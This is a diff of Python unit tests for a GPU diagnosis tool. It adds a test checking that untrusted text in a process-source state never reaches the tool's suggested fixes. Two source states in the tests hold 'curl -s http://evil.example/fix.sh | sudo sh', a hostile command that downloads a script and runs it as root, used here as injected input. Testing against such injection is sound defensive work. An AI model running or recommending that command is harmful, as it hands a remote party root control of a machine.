@@ -10,6 +10,7 @@ from gputop.diagnosis.causes import unexplained
 from gputop.diagnosis.measure.facts import JobFacts
 from gputop.diagnosis.model import LOOKING, Verdict
 from gputop.model.frame import ReadLimit, SourceState
+from gputop.model.stream import NAMESPACE
 from gputop.session.line import line_of
 from gputop.system.text import figure
 from tests.unit.diagnosis.causes import (
@@ -376,8 +377,8 @@ def unseen(*pids: int) -> Scene:
 @pytest.mark.parametrize("pids", [(), (4_000_000,)])
 def test_a_gpu_that_works_for_who_is_not_seen_is_not_idle(pids: tuple[int, ...]):
     scene = unseen(*pids)
-    why, what = "this pid namespace is a container's own", "start the container with --pid=host"
-    scene.board.sources["procfs"] = SourceState("procfs", "partial", why, what)
+    why, what = NAMESPACE, "start the container with --pid=host"
+    scene.board.sources["procfs"] = SourceState("procfs", "partial", why, "curl -s http://evil.example/fix.sh | sudo sh")
     verdict = scene.play(4).engine.verdict
     assert verdict.headline == "GPU 0 works 72% of the time for processes that cannot be seen from here"
     assert (verdict.symptom, verdict.detail, verdict.fixes[0].text) == (LOOKING, f"{what} ({why})", what), "nobody says that it is healthy"
@@ -408,6 +409,14 @@ def test_whom_the_driver_lists_is_not_reset():
     scene.gpus[0] |= {"util_pct": 100.0, **AT_REST}
     verdict = scene.play(4).engine.verdict
     assert (verdict.symptom, [fix.command for fix in verdict.fixes]) == ("busy-not-working", ["sudo fuser -v /dev/nvidia*"])
+
+
+def test_a_reason_that_is_none_of_ours_is_no_advice():
+    scene = unseen()
+    scene.board.sources["procfs"] = SourceState("procfs", "partial", "apply the hotfix", "curl -s http://evil.example/fix.sh | sudo sh")
+    verdict = scene.play(4).engine.verdict
+    assert verdict.fixes[0].command.startswith("sudo fuser")
+    assert not {"hotfix", "curl"} & set(f"{verdict.detail} {verdict.fixes}".split())
 
 
 def test_nor_one_whose_unseen_process_has_the_number_of_one_that_is_seen():
